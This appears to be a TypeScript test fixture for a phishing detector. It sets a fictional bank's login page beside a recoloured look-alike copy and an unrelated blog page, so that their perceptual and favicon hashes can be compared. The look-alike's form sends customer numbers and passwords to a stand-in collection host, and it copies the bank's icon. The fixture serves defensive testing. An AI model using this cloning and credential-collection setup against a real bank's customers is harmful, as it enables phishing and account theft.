// A bank's login page, the same page copied onto a look-alike host with another brand colour
// (what a phishing kit does so that an exact hash no longer matches), and an unrelated page.
// Screenshots of the two logins are close in perceptual hash; the unrelated page is far.

import { PNG_1x1 } from '../assets.js';
import { bytes, page } from '../respond.js';
import type { Scenario } from '../types.js';

/** The bank's site icon (a PNG with a marker, so its hash is its own). */
export const NORTHBANK_ICON: Buffer = Buffer.concat([PNG_1x1, Buffer.from('northbank icon')]);

export const PHISHING_COPY_URLS = {
  genuine: 'http://www.northbank.test/login',
  copy: 'http://northbank.account-verify.test/login',
  unrelated: 'http://www.allotment-diary.test/',
} as const;

/** A bank's login page in its colour, posting to `action` (the look-alike scenarios reuse it for other banks, with their logo's URL). */
export function bankLogin(brand: string, action: string, bank = 'Northbank', logo?: string) {
  const home = logo ? `<a href="/"><img src="${logo}" alt="${bank}" width="160" height="48"></a> ` : '';
  return page(
    `${bank}: sign in`,
    `<header>${home}<b>${bank}</b> <nav>Personal · Business · Help</nav></header>
<main>
  <form method="post" action="${action}">
    <h1>Sign in to online banking</h1>
    <label>Customer number<input name="customer" autocomplete="username"></label>
    <label>Password<input name="password" type="password" autocomplete="current-password"></label>
    <button type="submit">Sign in</button>
    <p><a href="/forgotten">Forgotten your details?</a></p>
  </form>
</main>
<footer>${bank} plc. Authorised and regulated. Registered office: 1 Example Street.</footer>`,
    `<style>
body { margin: 0; font: 16px sans-serif; background: #f4f6f8; color: #222; }
header { background: ${brand}; color: #fff; padding: 24px 40px; font-size: 24px; }
nav { display: inline; margin-left: 40px; font-size: 16px; }
header img { vertical-align: middle; margin-right: 16px; }
form { width: 380px; margin: 60px auto; padding: 32px; background: #fff; border-top: 6px solid ${brand}; box-shadow: 0 2px 8px #0002; }
label { display: block; margin: 16px 0; } input { display: block; width: 100%; padding: 10px; margin-top: 6px; border: 1px solid #999; }
button { width: 100%; padding: 14px; border: 0; background: ${brand}; color: #fff; font-size: 18px; }
footer { position: fixed; bottom: 0; width: 100%; padding: 16px 40px; background: #333; color: #ccc; font-size: 13px; }
</style>`,
  );
}

export const phishingCopy: Scenario = {
  name: 'phishing-copy',
  seed: PHISHING_COPY_URLS.genuine,
  routes: [
    { host: 'www.northbank.test', path: '/login', handler: bankLogin('#0b4aa2', '/login') },
    {
      host: 'northbank.account-verify.test',
      path: '/login',
      handler: bankLogin('#b3261e', 'http://collect.account-verify.test/post'),
    },
    // The kit copies the bank's icon byte for byte: the same favicon hash on another host.
    { host: 'www.northbank.test', path: '/favicon.ico', handler: bytes('image/png', NORTHBANK_ICON) },
    { host: 'northbank.account-verify.test', path: '/favicon.ico', handler: bytes('image/png', NORTHBANK_ICON) },
    {
      host: 'www.allotment-diary.test',
      path: '/',
      handler: page(
        'My allotment diary',
        `<h1>Week 32: the courgettes have won</h1>
<div class="photo"></div>
<p>Three plants were a mistake. Recipes, in order of desperation, below.</p>
<ul><li>Courgette soup</li><li>Courgette cake</li><li>Courgette chutney</li><li>Leaving them on neighbours' doorsteps</li></ul>`,
        `<style>
body { margin: 0 60px; font: 20px Georgia, serif; background: #2e3b1f; color: #f1ead2; }
.photo { height: 320px; background: linear-gradient(135deg, #d9a441, #7a9a3a); margin: 20px 0; }
</style>`,
      ),
    },
  ],
  loads: [`GET ${PHISHING_COPY_URLS.genuine}`],
};

export const phishingScenarios: Scenario[] = [phishingCopy];
